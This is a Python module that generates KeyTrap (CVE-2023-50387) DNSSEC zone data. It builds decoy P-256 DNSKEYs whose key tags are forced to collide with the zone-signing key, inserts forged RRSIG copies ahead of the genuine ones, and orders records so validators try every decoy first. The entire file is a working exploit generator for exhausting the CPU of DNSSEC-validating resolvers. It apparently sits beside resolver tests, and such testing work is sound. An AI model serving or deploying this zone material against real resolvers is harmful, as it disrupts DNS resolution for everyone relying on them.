"""KeyTrap (CVE-2023-50387) zone material: decoy DNSKEYs that share the ZSK's key tag, and
bogus RRSIGs in front of the genuine ones.

Decoys are real P-256 public keys (points on the curve, no private keys kept): Q, Q+G, Q+2G, ...
from a fixed start point, one point addition each (stdlib only). A decoy's key tag is steered
onto the ZSK's with the DNSKEY flags' unassigned bits (RFC 4034 2.1.1: validators ignore them),
as tests/unit/keytrap_gen.h does; roughly one point in eight reaches the tag. The decoys are
put into the zone before ldns-signzone runs, so the DNSKEY RRset stays validly signed by the
KSK; the bogus RRSIGs are copies of the ZSK's RRSIG with other signature bytes.
"""
import base64
import hashlib

# P-256 (FIPS 186-4 D.1.2.3)
P = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
A = P - 3
GX = 0x6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296
GY = 0x4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5
N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551

FREE_FLAGS = 0xFE7E  # all but ZONE (0x0100), REVOKE (0x0080) and SEP (0x0001)


def _add(p1, p2):
    if p1 is None:
        return p2
    (x1, y1), (x2, y2) = p1, p2
    if x1 == x2 and (y1 + y2) % P == 0:
        return None
    if p1 == p2:
        m = (3 * x1 * x1 + A) * pow(2 * y1, -1, P) % P
    else:
        m = (y2 - y1) * pow(x2 - x1, -1, P) % P
    x3 = (m * m - x1 - x2) % P
    return x3, (m * (x1 - x3) - y1) % P


def _mul(k, pt):
    out = None
    while k:
        if k & 1:
            out = _add(out, pt)
        pt = _add(pt, pt)
        k >>= 1
    return out


def key_tag(rdata):
    """RFC 4034 Appendix B over the DNSKEY RDATA (wire)."""
    ac = 0
    for i, b in enumerate(rdata):
        ac += b if i & 1 else b << 8
    ac += (ac >> 16) & 0xFFFF
    return ac & 0xFFFF


def dnskey_rdata(line):
    """The RDATA of a zone-file DNSKEY line "<owner> <ttl> IN DNSKEY flags 3 alg b64..."."""
    f = line.split(";")[0].split()
    i = f.index("DNSKEY")
    flags, proto, alg = int(f[i + 1]), int(f[i + 2]), int(f[i + 3])
    return bytes([flags >> 8, flags & 0xFF, proto, alg]) + base64.b64decode("".join(f[i + 4:]))


def decoys(owner, tag, n, seed):
    """n zone-file DNSKEY lines (alg 13, zone bit set) whose key tag is `tag`."""
    k = int.from_bytes(hashlib.sha256(seed.encode()).digest(), "big") % N or 1
    pt = _mul(k, (GX, GY))
    steer = _steering(tag)
    out = []
    for _ in range(64 * n):  # bounded: a tag no flags reach (e.g. 0) fails, never spins
        if len(out) == n:
            break
        pub = pt[0].to_bytes(32, "big") + pt[1].to_bytes(32, "big")
        flags = steer.get(key_tag(bytes([0, 0, 3, 13]) + pub))
        # the fold of a fold can differ by one from the fold of the sum: check the real tag
        if flags is not None and key_tag(bytes([flags >> 8, flags & 0xFF, 3, 13]) + pub) == tag:
            out.append("%s 3600 IN DNSKEY %d 3 13 %s" % (owner, flags, base64.b64encode(pub).decode()))
        pt = _add(pt, (GX, GY))
    if len(out) < n:
        raise RuntimeError("no flags steer P-256 keys onto key tag %d" % tag)
    return out


def _steering(tag):
    """{tag at flags 0: flags (zone bit + free bits) that move it onto `tag`}. The flags are
    the RDATA's first 16-bit word: they add to the sum before the carry fold."""
    out = {}
    for extra in range(0x10000):
        flags = 0x0100 | (extra & FREE_FLAGS)
        if extra & ~FREE_FLAGS:
            continue
        for base in ((tag - flags) % 0xFFFF, (tag - flags) % 0x10000):
            s = base + flags
            if (s + (s >> 16)) & 0xFFFF == tag:
                out.setdefault(base, flags)
    return out


def attack(text, origin, zsk_rdata, types, n):
    """The signed zone text as a KeyTrap server serves it (NSD serves an RRset's records in
    zone-file order): the ZSK listed after its decoys, and n bogus copies of the ZSK's RRSIG
    over each apex RRset of `types` before the genuine one."""
    tag = key_tag(zsk_rdata)
    out, zsk_line, last_dnskey = [], None, -1
    for line in text.splitlines():
        f = line.split(None, 4)
        rr = len(f) == 5 and not line.startswith(("$", ";")) and f[0].lower() == origin.lower()
        if rr and f[3] == "DNSKEY":
            if dnskey_rdata(line) == zsk_rdata:
                zsk_line = line
                continue
            last_dnskey = len(out)
        if rr and f[3] == "RRSIG":
            rd = f[4].split()
            if rd[0] in types and int(rd[6]) == tag:
                for i in range(n):
                    sig = hashlib.sha512(("%s/%s/%d" % (f[0], rd[0], i)).encode()).digest()[:64]
                    out.append("\t".join(f[:4]) + "\t" + " ".join(rd[:8] + [base64.b64encode(sig).decode()]))
        out.append(line)
    if zsk_line is None or last_dnskey < 0:
        raise RuntimeError("no ZSK or no decoys in the signed zone of " + origin)
    out.insert(last_dnskey + 1, zsk_line)
    return "\n".join(out) + "\n"
